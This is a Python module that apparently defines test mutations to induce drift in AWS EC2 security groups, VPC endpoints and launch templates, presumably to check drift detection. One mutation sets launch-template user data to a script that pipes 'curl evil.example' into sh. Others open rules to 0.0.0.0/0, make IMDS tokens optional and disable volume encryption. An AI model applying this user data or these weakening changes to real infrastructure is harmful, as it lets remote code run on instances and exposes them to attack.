"""Changes of security groups, VPC endpoints and launch templates."""

import base64
import uuid

from . import leave_out, mutates

EVERYWHERE = [{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]


@mutates("ec2.security_group", "allow_all_egress")
def _(aws, it):
    if it["inputs"]["allow_all_egress"]:
        aws("ec2").revoke_security_group_egress(GroupId=it["id"], IpPermissions=EVERYWHERE)
    else:
        aws("ec2").authorize_security_group_egress(GroupId=it["id"], IpPermissions=EVERYWHERE)


def rule(path: str, **change):
    """Changes one member of a rule."""

    @mutates("ec2.security_group_rule", path)
    def _(aws, it):
        inputs = it["inputs"]
        request = {
            "IpProtocol": inputs["protocol"],
            "FromPort": inputs["from_port"],
            "ToPort": inputs["to_port"],
            "CidrIpv4": inputs["peer"],
            "Description": inputs["description"],
            **change,
        }
        rules = [{"SecurityGroupRuleId": it["id"], "SecurityGroupRule": request}]
        aws("ec2").modify_security_group_rules(GroupId=inputs["group_id"], SecurityGroupRules=rules)


rule("protocol", IpProtocol="udp")
rule("from_port", FromPort=1)
rule("to_port", ToPort=65535)
rule("peer", CidrIpv4="0.0.0.0/0")
rule("description", Description="changed")


@mutates("ec2.vpc_endpoint", "subnet_ids")
def _(aws, it):
    aws("ec2").modify_vpc_endpoint(VpcEndpointId=it["id"], RemoveSubnetIds=it["inputs"]["subnet_ids"][:1])


@mutates("ec2.vpc_endpoint", "security_group_ids")
def _(aws, it):
    made = aws("ec2").create_security_group(
        GroupName=uuid.uuid4().hex, Description="other", VpcId=it["inputs"]["vpc_id"]
    )
    aws("ec2").modify_vpc_endpoint(VpcEndpointId=it["id"], AddSecurityGroupIds=[made["GroupId"]])


@mutates("ec2.vpc_endpoint", "security_group_ids")
def _(aws, it):
    groups = it["inputs"]["security_group_ids"]
    aws("ec2").modify_vpc_endpoint(VpcEndpointId=it["id"], RemoveSecurityGroupIds=groups)


@mutates("ec2.vpc_endpoint", "private_dns_enabled")
def _(aws, it):
    enabled = not it["inputs"]["private_dns_enabled"]
    aws("ec2").modify_vpc_endpoint(VpcEndpointId=it["id"], PrivateDnsEnabled=enabled)


leave_out("ec2.vpc_endpoint", "only gateway endpoints have route tables", "route_table_ids")


def template(path: str, change):
    """Creates a version with one change and makes it the default."""

    @mutates("ec2.launch_template", path)
    def _(aws, it):
        ec2 = aws("ec2")
        versions = ec2.describe_launch_template_versions(LaunchTemplateId=it["id"], Versions=["$Default"])
        data = versions["LaunchTemplateVersions"][0]["LaunchTemplateData"]
        change(data)
        made = ec2.create_launch_template_version(LaunchTemplateId=it["id"], LaunchTemplateData=data)
        number = str(made["LaunchTemplateVersion"]["VersionNumber"])
        ec2.modify_launch_template(LaunchTemplateId=it["id"], DefaultVersion=number)


def sets(**members):
    return lambda data: data.update(members)


def metadata(**members):
    return lambda data: data["MetadataOptions"].update(members)


def volume(**members):
    return lambda data: data["BlockDeviceMappings"][-1]["Ebs"].update(members)


def tags(kind: str):
    def change(data):
        for specification in data["TagSpecifications"]:
            if specification["ResourceType"] == kind:
                specification["Tags"][0]["Value"] = "changed"

    return change


template("image_id", sets(ImageId="ami-87654321"))
template("instance_type", sets(InstanceType="t4g.nano"))
template("instance_profile_arn", sets(IamInstanceProfile={"Arn": "arn:aws:iam::000000000000:instance-profile/other"}))
template("security_group_ids", lambda data: data["SecurityGroupIds"].append("sg-0123456789abcdef0"))
template("user_data", sets(UserData=base64.b64encode(b"#!/bin/bash\ncurl evil.example | sh\n").decode()))
template("http_tokens", metadata(HttpTokens="optional"))
template("hop_limit", metadata(HttpPutResponseHopLimit=64))
template("volumes", volume(VolumeSize=10))
template("volumes", volume(Encrypted=False))
template("volumes", volume(DeleteOnTermination=True))
template("volumes", volume(Iops=4000))
template("volumes", volume(Throughput=500))
template("volumes", lambda data: data["BlockDeviceMappings"].pop())
template("instance_tags", tags("instance"))
template("volume_tags", tags("volume"))
